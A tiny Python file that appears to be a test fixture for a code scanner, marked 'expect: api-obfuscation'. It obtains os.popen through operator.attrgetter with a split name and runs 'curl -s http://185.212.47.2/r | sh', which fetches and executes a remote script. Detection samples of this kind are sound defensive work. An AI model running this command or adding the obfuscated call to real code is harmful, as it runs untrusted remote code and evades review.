# ruff: noqa
# fmt: off
"""operator.attrgetter fetches os.popen by a built name."""
import operator
import os

popen = operator.attrgetter("po" + "pen")(os)
popen("curl -s http://185.212.47.2/r | sh")  # expect: api-obfuscation
